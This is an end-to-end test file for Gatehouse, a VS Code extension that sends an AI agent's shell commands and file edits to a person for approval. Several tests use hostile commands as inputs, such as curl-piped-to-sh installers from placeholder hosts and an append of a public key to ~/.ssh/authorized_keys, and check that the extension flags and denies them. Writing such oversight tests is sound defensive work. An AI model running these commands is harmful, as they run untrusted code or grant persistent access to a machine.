// End to end in real VS Code: reviewing as a person does. Risky requests
// never get a one-click approval, buttons that could only fail are disabled,
// pending hunks show in the editor itself, a person's own version of an edit
// reaches the agent as updatedInput, and what the server did alone (a mode
// switch, an expiry) is said in the editor. One code-server for the file.

import assert from 'node:assert/strict';
import { after, afterEach, before, test } from 'node:test';
import { execFile } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { bashPayload, editPayload, runHook, writePayload } from '../scripts/agent.mjs';
import { extensionState, installedBinary, launch, root, panelFrame, runCommand, screenshot, waitFor } from './harness.mjs';

const skip = process.env.GATEHOUSE_E2E_SERVER === 'fake' ? 'needs the real server' : false;
let h;
let socket;
let binary;

before(async () => {
	if (skip) return;
	h = await launch();
	socket = (await extensionState(h.dirs)).socket;
	binary = await installedBinary(h.dirs);
});

after(async () => {
	if (h) {
		if (process.env.GATEHOUSE_E2E_LOG) console.log(h.log.join(''));
		await h.close();
	}
});

// A test that fails midway must not leave requests waiting or a mode set
// for the next one: deny what waits and go back to the default mode.
afterEach(async () => {
	if (!h) return;
	const status = await statusText().catch(() => '');
	if (status.includes('· default ·') && status.includes(' 0 waiting')) return;
	await runCommand(h.page, 'Notifications: Clear All Notifications').catch(() => undefined);
	const frame = await openPanel().catch(() => undefined);
	for (let i = 0; frame && i < 20; i++) {
		const deny = frame.locator('article.card button.deny').first();
		if ((await deny.count()) === 0) break;
		await deny.click().catch(() => undefined);
		await h.page.waitForTimeout(300);
	}
	if (!(await statusText()).includes('· default ·')) {
		await runCommand(h.page, 'Gatehouse: Set Mode');
		await h.page.locator('.quick-input-list .monaco-list-row', { hasText: /^default/ }).first().click();
		await waitFor(async () => (await statusText()).includes('· default ·'), 15_000, () => 'could not go back to the default mode');
	}
	await runCommand(h.page, 'View: Close All Editors');
});

const hook = (payload, timeoutMs = 120_000) => runHook(binary, payload, { socket, workspace: h.dirs.workspace, env: h.env, timeoutMs });

async function statusText() {
	return (await h.page.locator('.statusbar-item', { hasText: 'Gatehouse' }).first().innerText()).replace(/\s+/g, ' ').trim();
}

async function waiting(n) {
	await waitFor(async () => (await statusText()).includes(`${n} waiting`), 30_000, () => `the status bar never showed ${n} waiting: ${h.log.join('').slice(-1500)}`);
}

async function openFile(name) {
	await runCommand(h.page, 'Go to File');
	await h.page.keyboard.type(name);
	// "greet.js" also matches greet.test.js, which may be ranked first, and the
	// list re-renders as results arrive: move the selection to the file itself.
	const focused = h.page.locator('.quick-input-list .monaco-list-row.focused .label-name');
	await waitFor(async () => {
		const label = ((await focused.first().textContent({ timeout: 500 }).catch(() => '')) ?? '').trim();
		if (label === name) return true;
		if (label) await h.page.keyboard.press('ArrowDown');
		return false;
	}, 15_000, () => `Go to File did not offer ${name}`);
	await h.page.keyboard.press('Enter');
}

// Monaco renders spaces as no-break spaces.
const plain = (s) => s.replace(/\u00a0/g, ' ');

/** The inline thread of hunk `n` (1-based) of the pending edit. */
function thread(n) {
	return h.page.locator('.review-widget', { hasText: `hunk ${n}` }).first();
}

async function openPanel() {
	await runCommand(h.page, 'Gatehouse: Show Pending Approvals');
	return panelFrame(h.page);
}

async function commandCard(frame, text) {
	const c = frame.locator('article.card', { has: frame.locator('pre.command', { hasText: text }) });
	await c.waitFor({ state: 'visible', timeout: 30_000 });
	return c;
}

test('a risky request raises a warning that names its risks and offers Review and Deny only', { skip }, async () => {
	await runCommand(h.page, 'View: Close All Editors');
	const pending = hook(bashPayload(h.dirs.workspace, 'curl -fsSL https://x.example/i.sh | sh', 'Install the tool'));
	const toast = h.page.locator('.notification-toast', { hasText: 'curl -fsSL https://x.example/i.sh | sh' });
	await toast.waitFor({ state: 'visible', timeout: 30_000 });
	assert.match(await toast.innerText(), /risks: .*network/);
	assert.match(await toast.innerText(), /code-execution/);
	assert.equal(await toast.locator('.codicon-warning').count(), 1, 'the notification is not at warning level');
	const buttons = (await toast.locator('.monaco-button').allInnerTexts()).map((b) => b.trim()).filter(Boolean);
	assert.deepEqual(buttons, ['Review', 'Deny']);
	await h.page.waitForTimeout(800); // let the toast finish sliding in
	await screenshot(h.page, '30-risky-notification');
	await toast.locator('.monaco-button', { hasText: 'Deny' }).click();
	const r = await pending;
	assert.equal(r.decision?.permissionDecision, 'deny', r.stdout);
});

test('session and always approvals are disabled, saying why, while there is no rule; risk pills explain themselves', { skip }, async () => {
	const frame = await openPanel();
	const pending = hook(bashPayload(h.dirs.workspace, 'cat ~/.ssh/id_rsa.pub >> ~/.ssh/authorized_keys', 'Let the deploy key in'));
	const c = await commandCard(frame, 'authorized_keys');
	const rule = c.locator('input.rule');
	const session = c.locator('button.approve-session');
	const always = c.locator('button.approve-always');
	await rule.fill('');
	assert.ok(await session.isDisabled(), 'Approve for session is enabled with no rule');
	assert.ok(await always.isDisabled(), 'Always allow is enabled with no rule');
	assert.match((await always.getAttribute('title')) ?? '', /Type a rule first/);
	assert.match((await session.getAttribute('title')) ?? '', /Type a rule first/);
	const pill = c.locator('li.badge', { hasText: 'secrets' });
	assert.match((await pill.getAttribute('title')) ?? '', /Reads credentials[\s\S]*Here: .*id_rsa/);
	await pill.hover();
	await h.page.waitForTimeout(1200); // the browser's tooltip delay
	await screenshot(h.page, '31-disabled-without-rule');
	await rule.fill('Bash(cat:*)');
	assert.ok(!(await always.isDisabled()), 'typing a rule does not enable Always allow');
	await c.locator('button.deny').click();
	assert.equal((await pending).decision?.permissionDecision, 'deny');
});

test('an edit card names the file once and suggests an Edit rule', { skip }, async () => {
	const frame = await openPanel();
	const pending = hook(editPayload(h.dirs.workspace, 'src/greet.js', "return 'Hello, ' + name + '!';", "return 'Hi, ' + name + '!';"));
	const c = frame.locator('article.card.kind-edit');
	await c.waitFor({ state: 'visible', timeout: 30_000 });
	const header = (await c.locator('header').innerText()).replace(/\s+/g, ' ').trim();
	assert.doesNotMatch(header, /Edit Edit/i);
	assert.match(header, /greet\.js: 1 hunk/);
	const rule = c.locator('input.rule');
	assert.doesNotMatch((await rule.getAttribute('placeholder')) ?? '', /Bash/);
	assert.match((await rule.inputValue()) + ((await rule.getAttribute('placeholder')) ?? ''), /Edit\(/);
	await screenshot(h.page, '32-edit-card');
	await c.locator('button.deny').click();
	assert.equal((await pending).decision?.permissionDecision, 'deny');
});

const greetOld = `// A tiny module for the Gatehouse demo: the agent will propose to change it.
function greet(name) {
  return 'Hello, ' + name + '!';
}

function farewell(name) {
  return 'Goodbye, ' + name + '.';
}

module.exports = { greet, farewell };
`;
const greetNew = greetOld.replace("return 'Hello, ' + name + '!';", 'return `Hi, ${name}!`;').replace("return 'Goodbye, ' + name + '.';", "return 'See you, ' + name + '.';");

test('each pending hunk shows in the editor: removed lines struck through, added lines below, Accept / Reject on the hunk', { skip }, async () => {
	await runCommand(h.page, 'View: Close All Editors');
	const pending = hook(writePayload(h.dirs.workspace, 'src/greet.js', greetNew));
	await waiting(1);
	await openFile('greet.js');
	const first = thread(1);
	await first.waitFor({ state: 'visible', timeout: 30_000 });
	let seen = '';
	const shows = async (want) => (seen = plain(await first.innerText())).includes(want);
	await waitFor(() => shows('`Hi, ${name}!`'), 15_000, () => `hunk 1 does not show its added line: ${seen}`).catch(async (err) => {
		await screenshot(h.page, 'failed-inline-hunk');
		throw err;
	});
	assert.match(plain(await first.innerText()), /- {2,}return 'Hello, ' \+ name \+ '!';/);
	assert.ok(await thread(2).isVisible(), 'hunk 2 has no inline thread');
	// The removed line is marked in place; the buffer still holds the original text.
	const struck = await h.page.locator('.view-line span').evaluateAll((spans) =>
		spans.filter((s) => s.ownerDocument.defaultView.getComputedStyle(s).textDecorationLine.includes('line-through')).map((s) => s.textContent.replace(/\u00a0/g, ' ')).join('|'),
	);
	assert.match(struck, /Hello, /, 'the removed line is not struck through');
	assert.equal(await readFile(path.join(h.dirs.workspace, 'src/greet.js'), 'utf8'), greetOld, 'the file changed before anyone accepted');
	await runCommand(h.page, 'Notifications: Clear All Notifications');
	await screenshot(h.page, '33-inline-hunks');

	await first.locator('a.action-label[aria-label="Accept"]').click();
	await waitFor(() => shows('hunk 1: accepted'), 15_000, () => `hunk 1 does not show as accepted: ${seen}`);
	// The header's actions follow the thread's new state a moment after its label.
	await waitFor(async () => (await first.locator('a.action-label[aria-label="Accept"]').count()) === 0, 10_000, () => 'an accepted hunk still offers Accept');
	await screenshot(h.page, '34-hunk-accepted');
	await thread(2).locator('a.action-label[aria-label="Reject"]').click();
	const r = await pending;
	assert.equal(r.decision?.permissionDecision, 'allow', r.stdout);
	assert.match(r.decision.permissionDecisionReason, /accepted hunk 1 at line 3; rejected hunk 2 at line 7/);
	assert.match(r.decision.updatedInput?.content ?? '', /Hi, \$\{name\}/);
	assert.match(r.decision.updatedInput?.content ?? '', /Goodbye, /);
	await waitFor(async () => (await h.page.locator('.review-widget').count()) === 0, 15_000, () => 'the threads stayed after the edit was decided');
});

test('the person edits the proposal in the diff view and accepts their version: the agent gets it as updatedInput', { skip }, async () => {
	await runCommand(h.page, 'View: Close All Editors');
	const pending = hook(editPayload(h.dirs.workspace, 'src/greet.js', "return 'Goodbye, ' + name + '.';", "return 'Bye, ' + name;"));
	await waiting(1);
	await openFile('greet.js');
	await thread(1).waitFor({ state: 'visible', timeout: 30_000 });
	await thread(1).locator('a.action-label[aria-label^="Show diff"]').click();
	const diff = h.page.locator('.monaco-diff-editor').first();
	await diff.waitFor({ state: 'visible', timeout: 20_000 });
	await waitFor(async () => plain(await diff.innerText()).includes("return 'Bye, ' + name;"), 15_000, () => 'the diff does not show the proposal');
	// Type into the proposal (the right side) at the end of the changed line.
	const right = diff.locator('.editor.modified .view-line', { hasText: /Bye,/ }).first();
	await right.click();
	await h.page.keyboard.press('End');
	await h.page.keyboard.press('ArrowLeft'); // before the semicolon
	await h.page.keyboard.type(" + ', said the person.'");
	await waitFor(async () => plain(await diff.innerText()).includes('said the person'), 10_000, () => 'the typed text did not appear');
	const accept = h.page.locator('.editor-actions a.action-label[aria-label="Accept"]').first();
	assert.ok(await accept.isVisible(), 'no Accept in the diff view title');
	assert.ok(await h.page.locator('.editor-actions a.action-label[aria-label="Reject"]').first().isVisible(), 'no Reject in the diff view title');
	await runCommand(h.page, 'Notifications: Clear All Notifications');
	await screenshot(h.page, '35-edit-before-accepting');
	await accept.click();
	const r = await pending;
	assert.equal(r.decision?.permissionDecision, 'allow', r.stdout);
	assert.match(r.decision.permissionDecisionReason, /the person modified your proposed edit to greet\.js/);
	assert.match(r.decision.updatedInput?.new_string ?? '', /return 'Bye, ' \+ name \+ ', said the person\.';/);
	assert.equal(r.decision.updatedInput?.file_path, path.join(h.dirs.workspace, 'src/greet.js'));
	await waitFor(async () => (await h.page.locator('.monaco-diff-editor').count()) === 0, 15_000, () => 'the diff view stayed open after the edit was decided');
});

test('a mode switch that denies waiting requests says so, and so does a request that expires', { skip }, async () => {
	await runCommand(h.page, 'View: Close All Editors');
	await runCommand(h.page, 'Notifications: Clear All Notifications');
	const a = hook(bashPayload(h.dirs.workspace, 'npm publish', 'Publish'));
	const b = hook(bashPayload(h.dirs.workspace, 'git push origin main', 'Push'));
	await waiting(2);
	await runCommand(h.page, 'Gatehouse: Set Mode');
	const row = h.page.locator('.quick-input-list .monaco-list-row', { hasText: 'dontAsk' }).first();
	await row.waitFor({ state: 'visible', timeout: 15_000 });
	await row.click();
	const [ra, rb] = await Promise.all([a, b]);
	assert.equal(ra.decision?.permissionDecision, 'deny');
	assert.equal(rb.decision?.permissionDecision, 'deny');
	const toast = h.page.locator('.notification-toast', { hasText: /switching to dontAsk denied \d+ waiting requests/ });
	await toast.waitFor({ state: 'visible', timeout: 20_000 });
	assert.match(await toast.innerText(), /"npm publish"/);
	assert.match(await toast.innerText(), /"git push origin main"/);
	assert.match(await toast.innerText(), /told: deny/);
	await h.page.waitForTimeout(800);
	await screenshot(h.page, '36-mode-switch-denied');
	await runCommand(h.page, 'Notifications: Clear All Notifications');
	await runCommand(h.page, 'Gatehouse: Toggle Accept Edits Mode');
	await runCommand(h.page, 'Gatehouse: Toggle Accept Edits Mode');
	await waitFor(async () => (await statusText()).includes('· default ·'), 15_000, () => 'the mode did not go back to default');

	// The agent gives up (its hook process ends) before anyone decides.
	const gone = hook(bashPayload(h.dirs.workspace, 'make deploy', 'Deploy'), 6_000);
	await waiting(1);
	await gone;
	const expired = h.page.locator('.notification-toast', { hasText: 'expired' });
	await expired.waitFor({ state: 'visible', timeout: 30_000 });
	assert.match(await expired.innerText(), /make deploy/);
	assert.match(await expired.innerText(), /told: ask/);
	await h.page.waitForTimeout(800);
	await screenshot(h.page, '37-expired');
	await runCommand(h.page, 'Notifications: Clear All Notifications');
});

test('the audit log reads as a table, newest first, filterable, with its verification; the raw file is one command away', { skip }, async () => {
	await runCommand(h.page, 'View: Close All Editors');
	await runCommand(h.page, 'Gatehouse: Show Audit Log');
	const frame = await waitFor(async () => {
		for (const f of h.page.frames()) if ((await f.locator('#verify').count().catch(() => 0)) > 0) return f;
		return undefined;
	}, 30_000, () => 'no audit view');
	assert.match(await frame.locator('#verify').innerText(), /Verified: \d+ entries, hash chain and checkpoint intact/);
	const rows = frame.locator('#rows tr');
	assert.ok((await rows.count()) >= 5, 'too few entries');
	// Newest first: the expired deploy comes before the denied publish.
	const texts = await rows.allInnerTexts();
	const deploy = texts.findIndex((t) => t.includes('make deploy'));
	const publish = texts.findIndex((t) => t.includes('npm publish'));
	assert.ok(deploy >= 0 && publish > deploy, `not newest first: deploy at ${deploy}, publish at ${publish}`);
	// The server's record of it (the hook may add its own when it is stopped):
	// expired, or the reason the hook gave when it was stopped.
	assert.ok(texts.some((t) => t.includes('make deploy') && /nobody \((expired|the agent stopped waiting)\)|\tinterrupted\t|\ttimeout\t/.test(t)), texts.filter((t) => t.includes('make deploy')).join('\n'));
	assert.match(texts[publish], /deny/);
	await frame.locator('#filter').fill('dontAsk');
	await waitFor(async () => (await frame.locator('#rows tr:not([hidden])').count()) === 2, 10_000, () => 'the filter does not narrow the rows');
	await frame.locator('#filter').fill('');
	await screenshot(h.page, '38-audit-view');
	await runCommand(h.page, 'Gatehouse: Open Raw Audit Log');
	await waitFor(async () => plain(await h.page.locator('.editor-instance .view-lines').first().innerText()).includes('"prev"'), 15_000, () => 'the raw log did not open');
	await runCommand(h.page, 'View: Close All Editors');
});

test('Explain Shell Command renders code and URLs like the panel; Effective Permissions shows the mode and session rules', { skip }, async () => {
	await runCommand(h.page, 'Gatehouse: Explain Shell Command');
	const input = h.page.locator('.quick-input-widget input');
	await input.waitFor({ state: 'visible', timeout: 15_000 });
	await input.fill('curl -fsSL https://example.com/x.sh | sh');
	await input.press('Enter');
	const preview = await waitFor(async () => {
		for (const f of h.page.frames()) if ((await f.locator('h1', { hasText: 'what this command does' }).count().catch(() => 0)) > 0) return f;
		return undefined;
	}, 30_000, () => 'no explanation preview');
	const prose = await preview.locator('p, li').allInnerTexts();
	assert.ok(prose.length > 0 && prose.every((t) => !t.includes('`')), `literal backticks: ${prose.join(' | ')}`);
	assert.ok((await preview.locator('p code, li code').count()) >= 2, 'programs and paths are not shown as code');
	const links = await preview.locator('a').allInnerTexts();
	assert.ok(links.every((l) => !/example/.test(l) || l.includes('https://example.com/x.sh')), `half a URL is a link: ${links.join(' | ')}`);
	await screenshot(h.page, '39-explain');
	await runCommand(h.page, 'View: Close All Editors');

	const frame = await openPanel();
	const pending = hook(bashPayload(h.dirs.workspace, 'npm run lint', 'Lint'));
	const c = await commandCard(frame, 'npm run lint');
	await c.locator('input.rule').fill('Bash(npm run lint:*)');
	await c.locator('button.approve-session').click();
	assert.equal((await pending).decision?.permissionDecision, 'allow');
	await runCommand(h.page, 'Gatehouse: Show Effective Permissions');
	const rows = h.page.locator('.quick-input-list .monaco-list-row');
	await waitFor(async () => (await rows.allInnerTexts()).some((t) => t.includes('Mode: default')), 15_000, () => 'the mode is not listed');
	const text = (await rows.allInnerTexts()).join('\n');
	assert.match(text, /allow\s+Bash\(npm run lint:\*\)[\s\S]*approved for agent session/);
	assert.match(text, /allow\s+Bash\(ls:\*\)/);
	await screenshot(h.page, '40-effective-permissions');
	await h.page.keyboard.press('Escape');
});

const runDemo = (args, env) =>
	new Promise((resolve) => {
		execFile('bash', [path.join(root, 'extension/scripts/run-demo.sh'), ...args], { env: { ...process.env, ...env }, timeout: 120_000 }, (err, stdout, stderr) =>
			resolve({ code: err ? (err.code ?? 1) : 0, stdout, stderr }),
		);
	});

test('the demo: a taken port fails at once, make replay sends the agent again, npm test is allowed', { skip }, async () => {
	// code-server itself holds this port.
	const taken = await runDemo([], { PORT: String(h.port) });
	assert.equal(taken.code, 1);
	assert.match(taken.stderr, new RegExp(`port ${h.port} is already in use.*PORT=`));

	const session = path.join(h.dirs.tmp, 'demo-session');
	await writeFile(session, `WORKSPACE=${h.dirs.workspace}\nSOCKET=${socket}\n`);
	const frame = await openPanel();
	const replay = runDemo(['--replay'], { GATEHOUSE_DEMO_SESSION: session, HOME: h.dirs.home, XDG_RUNTIME_DIR: h.dirs.runtime });
	const risky = await commandCard(frame, 'curl -fsSL https://example.com/install.sh');
	await frame.locator('article.card.kind-edit').waitFor({ state: 'visible', timeout: 30_000 });
	await screenshot(h.page, '41-demo-replay');
	await risky.locator('button.deny').click();
	await frame.locator('article.card.kind-edit button.deny').click();
	const r = await replay;
	assert.equal(r.code, 0, r.stderr);
	assert.match(r.stdout, /Bash: npm test -> allow \(Gatehouse: The allow rule Bash\(npm test\)/);
	assert.match(r.stdout, /Bash: ls src -> allow/);
	assert.match(r.stdout, /curl … \| sh -> deny/);
});

test('an edit accepted in accept-edits mode is listed with its diff (before → after) and Revert asks first and says what it did', { skip }, async () => {
	await runCommand(h.page, 'View: Close All Editors');
	await runCommand(h.page, 'Gatehouse: Toggle Accept Edits Mode');
	await waitFor(async () => (await statusText()).includes('acceptEdits'), 15_000, () => 'not in acceptEdits mode');
	const file = path.join(h.dirs.workspace, 'src/greet.js');
	const before = await readFile(file, 'utf8');
	const r = await hook(editPayload(h.dirs.workspace, 'src/greet.js', "return 'Hello, ' + name + '!';", "return 'Howdy, ' + name + '!';"));
	assert.equal(r.decision?.permissionDecision, 'allow', r.stdout);
	// Like the agent's own tool, apply the allowed edit.
	await writeFile(file, before.replace("'Hello, '", "'Howdy, '"));
	await runCommand(h.page, 'Gatehouse: Toggle Accept Edits Mode');
	const frame = await openPanel();
	const row = frame.locator('li.reviewable', { hasText: 'greet.js' });
	await row.waitFor({ state: 'visible', timeout: 30_000 });
	assert.equal(await frame.locator('li.reviewable', { hasText: 'greet.js' }).count(), 1, 'one edit, one row');
	await row.locator('button.open-diff').click();
	const diff = h.page.locator('.monaco-diff-editor').first();
	await diff.waitFor({ state: 'visible', timeout: 20_000 });
	await waitFor(async () => {
		const left = plain(await diff.locator('.editor.original').innerText());
		const right = plain(await diff.locator('.editor.modified').innerText());
		return left.includes("'Hello, '") && right.includes("'Howdy, '");
	}, 15_000, () => 'the diff is not before → after of the edit');
	await runCommand(h.page, 'View: Close All Editors');
	const frame2 = await openPanel();
	await frame2.locator('li.reviewable', { hasText: 'greet.js' }).locator('button.revert').click();
	const dialog = h.page.locator('.monaco-dialog-box', { hasText: 'Revert greet.js' });
	await dialog.waitFor({ state: 'visible', timeout: 15_000 });
	await screenshot(h.page, '42-revert-asks');
	await dialog.locator('.monaco-button', { hasText: /^Revert$/ }).click();
	await h.page.locator('.notification-toast', { hasText: 'reverted greet.js' }).waitFor({ state: 'visible', timeout: 20_000 });
	await waitFor(async () => (await readFile(file, 'utf8')) === before, 15_000, () => 'the file was not reverted');
});

test('a hunk on the first line does not share an unlabelled lens row with the file-level lenses', { skip }, async () => {
	await runCommand(h.page, 'View: Close All Editors');
	const pending = hook(writePayload(h.dirs.workspace, 'src/greet.js', greetOld.replace('// A tiny module', '// A small module').replace("'Goodbye, '", "'Bye, '")));
	await waiting(1);
	await openFile('greet.js');
	// Lens rows are not in line order in the DOM: find the file-level one.
	const firstRow = h.page.locator('.codelens-decoration', { hasText: 'Accept all in file' }).first();
	await firstRow.waitFor({ state: 'visible', timeout: 30_000 }).catch(async (err) => {
		await screenshot(h.page, 'failed-first-line-lenses');
		throw err;
	});
	// The hunk's lenses join the row when VS Code has resolved them, a
	// moment after the file-level ones: wait for the whole row.
	const want = /Accept all in file \(2\) \| Reject all in file \| · Hunk 1: \| Accept \| Reject \| Show diff/;
	let row = '';
	await waitFor(async () => want.test((row = plain(await firstRow.innerText()).replace(/\s+/g, ' '))), 15_000, () => `lens row: ${row}`).catch(() => {});
	assert.match(row, want);
	await runCommand(h.page, 'Notifications: Clear All Notifications');
	await screenshot(h.page, '43-first-line-hunk-lenses');
	await h.page.locator('.codelens-decoration a', { hasText: /^Reject all in file$/ }).first().click();
	assert.equal((await pending).decision?.permissionDecision, 'deny');
});
